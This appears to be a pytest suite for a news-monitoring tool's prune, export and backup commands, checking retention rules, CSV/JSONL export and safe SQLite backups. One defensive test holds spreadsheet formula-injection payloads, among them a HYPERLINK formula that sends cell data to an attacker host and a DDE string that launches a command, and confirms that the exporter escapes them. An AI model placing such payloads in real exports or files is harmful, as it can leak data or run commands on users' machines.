"""`stmon prune`, `stmon export`, `stmon backup` against real SQLite databases."""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from monitor.cli import data_cmd
from monitor.errors import MonitorError, StoreError
from monitor.store.backup import sqlite_path
from monitor.store.db import Database
from monitor.store.feeds import feed_by_name
from monitor.store.items import add_items, mark_classified
from monitor.store.outbox import add_alert
from monitor.store.tables import Alert, Classification, Event, Item, ItemSource, Story
from tests.support.service_store import add_event, add_feed, classify, make_item, migrated

NOW = datetime.now(UTC).replace(microsecond=0)
OLD = NOW - timedelta(days=200)
RECENT = NOW - timedelta(days=2)


def run(*argv: str) -> int:
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest="command", required=True)
    data_cmd.register(sub)
    args = parser.parse_args(argv)
    code: int = args.func(args)
    return code


def store(db: Database) -> dict[str, int]:
    """A feed with old, recent and back-catalogue items, two events, alerts and stories.

    Returns the ids by name.
    """
    ids: dict[str, int] = {}
    with db.session() as session:
        feed = add_feed(session, "yonhap", OLD)
        plan = {  # name: (published, fetched)
            "old0": (OLD, OLD), "old1": (OLD, OLD), "old2": (OLD, OLD), "old3": (OLD, OLD),
            "backlist": (NOW - timedelta(days=300), NOW - timedelta(days=1)),
            "recent4": (RECENT, RECENT), "recent5": (NOW - timedelta(hours=1), NOW),
        }  # fmt: skip
        for n, (name, (published, fetched)) in enumerate(plan.items()):
            item = make_item(n, "yonhap", published, fetched, title=f"{name} headline")
            (stored,) = add_items(session, feed, [item], fetched)
            ids[name] = stored.id
        classify(session, ids["old0"], "summit_held")
        classify(session, ids["old1"], "summit_held", "leaders_call")
        classify(session, ids["recent4"], "economy_trade")
        mark_classified(session, ids["recent4"], True, NOW)
        ids["e_old"] = add_event(session, "e-old", [ids["old0"], ids["old1"]], OLD, OLD).id
        ids["e_mixed"] = add_event(session, "e-mix", [ids["old2"], ids["recent4"]], OLD, RECENT).id
        for name, event, status, created in [
            ("a_old", ids["e_old"], "sent", OLD),
            ("a_health", None, "sent", OLD),
            ("a_waiting", None, "pending", OLD),
        ]:
            add_alert(session, key=name, channel="ops", kind="event", delivery="immediate",
                           payload={}, event_id=event, next_attempt=created, now=created,
                           status=status)  # fmt: skip
        for name, members in [("s_gone", ["old1", "old3"]), ("s_kept", ["old2", "recent4"])]:
            story = Story(created=OLD, first_item_id=ids[members[0]])
            session.add(story)
            session.flush()
            ids[name] = story.id
            for member in members:
                session.get_one(Item, ids[member]).story_id = story.id
    return ids


def item_ids(db: Database) -> set[int]:
    with db.session() as session:
        return set(session.scalars(select(Item.id)))


def count(db: Database, table: type) -> int:
    with db.session() as session:
        return session.scalar(select(func.count()).select_from(table)) or 0


def test_prune_keeps_events_and_their_only_coverage(
    db: Database, db_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = store(db)
    assert run("prune", "--older-than", "180d", "--db", db_url) == 0
    out = capsys.readouterr().out
    kept = {ids[n] for n in ("old0", "backlist", "recent4", "recent5")}
    assert item_ids(db) == kept
    assert out.startswith(
        "deleted 3 items (2 classifications, 3 sources), 1 stories, 0 events, 0 alerts"
    )
    assert "kept 1 old items as the only coverage of kept events" in out
    with db.session() as session:
        assert set(session.scalars(select(Event.uid))) == {"e-old", "e-mix"}
        assert count(db, Alert) == 3
        assert set(session.scalars(select(ItemSource.item_id))) == kept
        assert set(session.scalars(select(Classification.item_id))) == {ids["old0"], ids["recent4"]}
        assert set(session.scalars(select(Story.id))) == {ids["s_kept"]}
        assert session.get_one(Story, ids["s_kept"]).first_item_id is None  # old2 went


def test_prune_with_events_drops_old_events_and_finished_alerts(
    db: Database, db_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = store(db)
    assert run("prune", "--older-than", "180d", "--events", "--db", db_url) == 0
    out = capsys.readouterr().out
    assert item_ids(db) == {ids[n] for n in ("backlist", "recent4", "recent5")}
    assert "4 items" in out
    assert "1 events, 2 alerts" in out
    with db.session() as session:
        assert set(session.scalars(select(Event.uid))) == {"e-mix"}
        assert set(session.scalars(select(Alert.idempotency_key))) == {"a_waiting"}


def test_prune_keeps_an_event_whose_alert_is_still_waiting(db: Database, db_url: str) -> None:
    ids = store(db)
    with db.session() as session:
        session.get_one(Alert, 1).status = "pending"  # a_old, of e-old
        assert session.get_one(Alert, 1).event_id == ids["e_old"]
    run("prune", "--older-than", "180d", "--events", "--db", db_url)
    with db.session() as session:
        assert set(session.scalars(select(Event.uid))) == {"e-old", "e-mix"}
    assert ids["old0"] in item_ids(db)


def test_prune_dry_run_deletes_nothing(
    db: Database, db_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    store(db)
    before = item_ids(db)
    run("prune", "--older-than", "180d", "--events", "--dry-run", "--db", db_url)
    assert capsys.readouterr().out.startswith("would delete 4 items")
    assert item_ids(db) == before
    assert count(db, Event) == 2


def test_prune_rejects_a_bad_duration(db_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        run("prune", "--older-than", "half a year", "--db", db_url)
    assert "invalid duration" in capsys.readouterr().err


# --- export ----------------------------------------------------------------------------


def test_export_jsonl(db: Database, db_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    ids = store(db)
    assert run("export", "--since", "7d", "--format", "jsonl", "--db", db_url) == 0
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [r["id"] for r in records] == [ids["recent4"], ids["recent5"]]  # oldest first
    first = records[0]
    assert first["types"] == ["economy_trade"]
    assert first["feed"] == "yonhap"
    assert first["relevant"] is True
    assert first["title"] == "recent4 headline"
    assert datetime.fromisoformat(first["published"]) == RECENT


def test_export_to_a_closed_pipe_is_left_to_the_command_line(
    db: Database, db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`stmon export | head`: the broken pipe reaches `main`, which exits quietly; it is
    no "cannot write" error about an output file."""

    class Closed(io.StringIO):
        def write(self, text: str) -> int:
            raise BrokenPipeError(32, "Broken pipe")

    store(db)
    monkeypatch.setattr("sys.stdout", Closed())
    with pytest.raises(BrokenPipeError):
        run("export", "--since", "7d", "--db", db_url)


def test_export_csv_to_a_file(
    db: Database, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = store(db)
    target = tmp_path / "items.csv"
    assert run("export", "--since", "400d", "--format", "csv", "-o", str(target),
               "--db", db_url) == 0  # fmt: skip
    assert capsys.readouterr().out == f"exported 7 items to {target}\n"
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert [int(r["id"]) for r in rows][:1] == [ids["backlist"]]
    by_id = {int(r["id"]): r for r in rows}
    assert by_id[ids["old1"]]["types"] == "leaders_call;summit_held"
    assert by_id[ids["old3"]]["types"] == ""
    assert list(rows[0]) == data_cmd.EXPORT_FIELDS


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Summit")', "'=HYPERLINK"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("Lee and Ishiba meet", "Lee and Ishiba meet"),
    ],
    ids=["equals", "plus", "minus", "at", "plain"],
)
def test_export_csv_cells_never_start_a_formula(text: str, cell: str) -> None:
    out = io.StringIO()
    record = {field: "" for field in data_cmd.EXPORT_FIELDS} | {"title": text, "types": []}
    assert data_cmd.write_csv(iter([record]), out) == 1
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["title"].startswith(cell)
    assert row["title"].removeprefix("'") == text


def test_export_only_relevant(
    db: Database, db_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = store(db)
    run("export", "--since", "400d", "--relevant", "--db", db_url)
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [r["id"] for r in records] == [ids["recent4"]]


# --- backup ----------------------------------------------------------------------------


def table_rows(path: Path) -> dict[str, list[tuple[object, ...]]]:
    conn = sqlite3.connect(path)
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        return {t: sorted(conn.execute(f'SELECT * FROM "{t}"'), key=repr) for t in tables}
    finally:
        conn.close()


def test_backup_is_a_readable_copy_with_the_same_rows(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = migrated(sqlite_url)
    try:
        store(db)
        target = tmp_path / "backups" / "stmon-copy.db"
        target.parent.mkdir()
        assert run("backup", str(target), "--db", sqlite_url) == 0
        assert capsys.readouterr().out.startswith(f"backed up {tmp_path / 'stmon.db'} to {target}")
        source_rows = table_rows(tmp_path / "stmon.db")
        assert source_rows["items"]
        assert table_rows(target) == source_rows
        conn = sqlite3.connect(target)
        try:
            assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
            assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        finally:
            conn.close()
        assert not list(target.parent.glob("*.partial"))
    finally:
        db.dispose()


def test_backup_while_a_writer_is_busy_copies_only_committed_rows(
    sqlite_url: str, tmp_path: Path
) -> None:
    db = migrated(sqlite_url)
    try:
        store(db)
        before = item_ids(db)
        target = tmp_path / "copy.db"
        with db.session() as session:  # a write in progress, as in a running daemon
            feed = feed_by_name(session, "yonhap")
            assert feed is not None
            add_items(session, feed, [make_item(99, "yonhap", NOW, NOW)], NOW)
            run("backup", str(target), "--db", sqlite_url)
        copied = {row[0] for row in table_rows(target)["items"]}
        assert copied == before
        assert len(item_ids(db)) == len(before) + 1
    finally:
        db.dispose()


def test_backup_refuses_to_overwrite_without_force(sqlite_url: str, tmp_path: Path) -> None:
    migrated(sqlite_url).dispose()
    target = tmp_path / "exists.db"
    target.write_text("keep me")
    with pytest.raises(MonitorError, match="exists"):
        run("backup", str(target), "--db", sqlite_url)
    assert target.read_text() == "keep me"
    assert run("backup", str(target), "--force", "--db", sqlite_url) == 0
    assert "alembic_version" in table_rows(target)


@pytest.mark.parametrize("where", ["a folder", "in a missing folder"])
def test_backup_to_a_path_that_cannot_be_its_file_is_refused_before_copying(
    sqlite_url: str, tmp_path: Path, where: str
) -> None:
    migrated(sqlite_url).dispose()
    target = tmp_path / "backups"
    if where == "a folder":
        target.mkdir()
        message = f"{target} is a folder"
    else:
        target = target / "stmon.db"
        message = f"no folder {target.parent}"
    with pytest.raises(MonitorError, match=message):
        run("backup", str(target), "--force", "--db", sqlite_url)
    # nothing was written: no copy, no partial one beside it, no folder made
    backups = tmp_path / "backups"
    assert not (tmp_path / "backups.partial").exists()
    assert (list(backups.iterdir()) == []) if where == "a folder" else not backups.exists()


def test_backup_of_postgres_points_at_pg_dump() -> None:
    with pytest.raises(StoreError) as caught:
        sqlite_path("postgresql://stmon@db.example.org/stmon")
    assert "pg_dump" in caught.value.hint


def test_backup_of_a_missing_file_does_not_create_one(tmp_path: Path) -> None:
    with pytest.raises(StoreError, match="no database file"):
        sqlite_path(f"sqlite:///{tmp_path / 'nope.db'}")
    assert not (tmp_path / "nope.db").exists()


@pytest.mark.parametrize(
    "argv",
    [["export", "-o", "{db}"], ["calendar", "--ics", "{db}"], ["backup", "{db}", "--force"]],
    ids=["export", "calendar", "backup"],
)
def test_an_output_that_is_the_database_is_refused_and_the_store_kept(
    sqlite_url: str, argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    from monitor.cli import main

    migrated(sqlite_url).dispose()
    database = sqlite_path(sqlite_url)
    before = table_rows(database)
    for target in (database, database.with_name(database.name + "-wal")):
        assert main([a.format(db=target) for a in argv] + ["--db", sqlite_url]) == 1
        err = capsys.readouterr().err
        assert f"error: {target} is the database: writing it would destroy the store" in err
    assert table_rows(database) == before


def test_a_calendar_file_gets_the_usual_mode_or_keeps_its_own(
    sqlite_url: str, tmp_path: Path
) -> None:
    from monitor.cli import main

    migrated(sqlite_url).dispose()
    feed = tmp_path / "stmon.ics"
    umask = os.umask(0o022)
    try:
        assert main(["calendar", "--ics", str(feed), "--db", sqlite_url]) == 0
        assert feed.stat().st_mode & 0o777 == 0o644  # readable by a web server
        feed.chmod(0o640)
        assert main(["calendar", "--ics", str(feed), "--db", sqlite_url]) == 0
        assert feed.stat().st_mode & 0o777 == 0o640
        assert feed.read_bytes().startswith(b"BEGIN:VCALENDAR")
    finally:
        os.umask(umask)


def test_a_failed_backup_leaves_nothing_behind(tmp_path: Path) -> None:
    junk = tmp_path / "junk.db"
    junk.write_text("not a database at all, " * 200)
    target = tmp_path / "copy.db"
    with pytest.raises(StoreError, match="file is not a database"):
        run("backup", str(target), "--db", f"sqlite:///{junk}")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["junk.db"]
